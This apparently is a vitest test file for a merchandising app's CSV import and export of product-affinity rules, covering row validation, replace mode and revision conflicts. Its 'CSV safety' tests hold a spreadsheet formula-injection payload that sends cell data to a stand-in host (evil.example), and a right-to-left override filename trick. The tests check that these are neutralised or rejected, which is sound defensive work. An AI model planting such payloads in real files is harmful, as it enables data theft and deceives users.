import { beforeEach, describe, expect, it } from 'vitest';
import type Database from 'better-sqlite3';
import type { App } from '../testing/app.js';
import { openMerchStore, ok } from '../testing/merchStore.js';

let db: Database.Database;
let app: App;
beforeEach(() => ({ db, app } = openMerchStore()));

const HEADER = 'id,from_category,to_category,skus,min_delay_days,max_delay_days,weight,season_start,season_end,stores,active,note';
const draftIds = () => ok(app.call('merch.draft.get', {})).policy.affinities.map((a) => a.id);

describe('CSV export', () => {
  it('writes every field of every affinity, and reads back unchanged', () => {
    const out = ok(app.call('merch.csv.export', {}));
    expect(out.rows).toBe(3);
    expect(out.fileName).toBe('affinities-draft-2026-06-15.csv');
    expect(out.csv.split('\n')[0]).toBe(HEADER);
    expect(out.csv).toContain('tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,sleep system');
    const back = ok(app.call('merch.csv.import', { csv: out.csv, baseRevision: 0 }));
    expect(back).toMatchObject({ imported: true, added: 0, updated: 0, unchanged: 3, rejected: 0 });
  });
});

describe('CSV import', () => {
  it('adds and updates rows, accepting categories as shown in the app', () => {
    const csv = [
      HEADER,
      'tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,14,45,1,,,,yes,sleep system',
      'jacket-socks,Apparel > Jackets,Footwear > Socks,SOCK-1,0,21,0.5,10-01,02-28,S1,yes,"Warm feet, dry feet"',
    ].join('\n');
    const r = ok(app.call('merch.csv.import', { csv, baseRevision: 0 }));
    expect(r).toMatchObject({ imported: true, added: 1, updated: 1, unchanged: 0, removed: 0 });
    expect(r.rows.map((x) => [x.line, x.affinityId, x.status])).toEqual([
      [2, 'tent-bag', 'updated'],
      [3, 'jacket-socks', 'added'],
    ]);
    expect(r.draft.revision).toBe(1);
    expect(r.draft.policy.affinities.find((a) => a.id === 'jacket-socks')).toMatchObject({
      fromCategoryId: 'apparel/jackets', toCategoryId: 'footwear/socks', skus: ['SOCK-1'], seasonStart: '10-01', seasonEnd: '02-28', storeIds: ['S1'], note: 'Warm feet, dry feet',
    });
    expect(draftIds()).toEqual(['jacket-socks', 'shoe-sock', 'tent-bag', 'tent-pad']);
  });

  it('replaces the table when asked: rows missing from the file are removed', () => {
    const csv = `${HEADER}\ntent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,sleep system\n`;
    expect(ok(app.call('merch.csv.import', { csv, mode: 'replace', baseRevision: 0 }))).toMatchObject({ imported: true, unchanged: 1, removed: 2 });
    expect(draftIds()).toEqual(['tent-bag']);
  });

  it('reports every bad row and imports nothing from a file with any rejected row', () => {
    const csv = [
      HEADER,
      'good,outdoor/camping/tents,outdoor/camping/pads,,0,30,1,,,,yes,fine',
      'unknown,outdoor/camping/tents,garden/hoses,,0,30,1,,,,yes,',
      'negative,outdoor/camping/tents,footwear/socks,,-7,30,1,,,,yes,',
      'inverted,footwear/running,apparel/jackets,,30,7,1,,,,yes,',
      'short,footwear/running,footwear/socks,,0,30',
      'words,footwear/running,home/coffee/beans,,soon,30,1,,,,maybe,',
      'season,footwear/running,outdoor/camping/pads,,0,30,1,02-30,03-15,S7,yes,',
      'good,outdoor/camping/tents,outdoor/camping/pads,,0,30,1,,,,yes,twice',
    ].join('\n');
    const r = ok(app.call('merch.csv.import', { csv, baseRevision: 0 }));
    expect(r.imported).toBe(false);
    expect(r.rejected).toBe(7);
    expect(r.fileErrors).toEqual(['7 of 8 rows have problems: nothing was imported.']);
    expect(Object.fromEntries(r.rows.map((x) => [x.line, x.errors]))).toEqual({
      2: [],
      3: ['to_category: unknown category “garden/hoses”'],
      4: ['min_delay_days: -7 is negative'],
      5: ['max_delay_days: the window ends before it starts'],
      6: ['has 6 fields; the header has 12'],
      7: ['min_delay_days: “soon” is not a whole number of days', 'active: “maybe” is not yes or no'],
      8: ['season_start: 02-30 is not a day of the year (MM-DD)', 'stores: unknown store S7'],
      9: ['id good appears twice in the file'],
    });
    // nothing changed: same draft, same revision
    expect(ok(app.call('merch.draft.get', {})).revision).toBe(0);
    expect(db.prepare(`SELECT count(*) AS n FROM merch_draft`).get()).toEqual({ n: 0 });
  });

  it('refuses a file with wrong columns before reading any row', () => {
    const r = ok(app.call('merch.csv.import', { csv: 'from,to,delay\na,b,3\n', baseRevision: 0 }));
    expect(r).toMatchObject({ imported: false, rows: [] });
    expect(r.fileErrors).toEqual([
      'Unknown columns: from, to, delay.',
      'Missing columns: from_category, to_category, min_delay_days, max_delay_days.',
      `Expected columns: ${HEADER.split(',').join(', ')}.`,
    ]);
    expect(ok(app.call('merch.csv.import', { csv: '', baseRevision: 0 })).fileErrors).toEqual(['The file is empty.']);
    expect(ok(app.call('merch.csv.import', { csv: 'a,"b\n', baseRevision: 0 })).fileErrors[0]).toMatch(/^The file is not valid CSV/);
  });

  it('refuses to import over changes saved since the file was chosen', () => {
    const draft = ok(app.call('merch.draft.get', {}));
    ok(app.call('merch.draft.save', { baseRevision: 0, policy: draft.policy }));
    const r = app.call('merch.csv.import', { csv: `${HEADER}\n`, baseRevision: 0 });
    expect(r.ok ? 'ok' : r.error.code).toBe('conflict');
  });
});

describe('CSV safety', () => {
  it('exports a note that looks like a formula as text, and imports it back unchanged', () => {
    const note = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const csv = [HEADER, `tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"${note.replace(/"/g, '""')}"`].join('\n');
    const draft = ok(app.call('merch.csv.import', { csv, baseRevision: 0 })).draft;
    expect(draft.policy.affinities.find((a) => a.id === 'tent-bag')?.note).toBe(note);
    const out = ok(app.call('merch.csv.export', {}));
    expect(out.csv).not.toMatch(/,"?=HYPERLINK/);
    expect(out.csv).toContain(`"'=HYPERLINK(`);
    const back = ok(app.call('merch.csv.import', { csv: out.csv, baseRevision: draft.revision }));
    expect(back).toMatchObject({ imported: true, unchanged: 3 });
  });

  it('refuses control and bidi characters, naming the row, and imports nothing', () => {
    const csv = [
      HEADER,
      'tent-bag,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,fine',
      'a-b,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"evil \u202Etxt.exe"',
      'c-d,outdoor/camping/tents,outdoor/camping/sleeping-bags,,7,45,1,,,,yes,"bell\u0007"',
    ].join('\n');
    const r = ok(app.call('merch.csv.import', { csv, baseRevision: 0 }));
    expect(r.imported).toBe(false);
    expect(r.rows.filter((x) => x.status === 'rejected').map((x) => [x.line, x.errors[0]])).toEqual([
      [3, expect.stringContaining('note: contains a text-direction character (U+202E)')],
      [4, expect.stringContaining('note: contains a control character (U+0007)')],
    ]);
    expect(draftIds()).toHaveLength(3);
  });
});
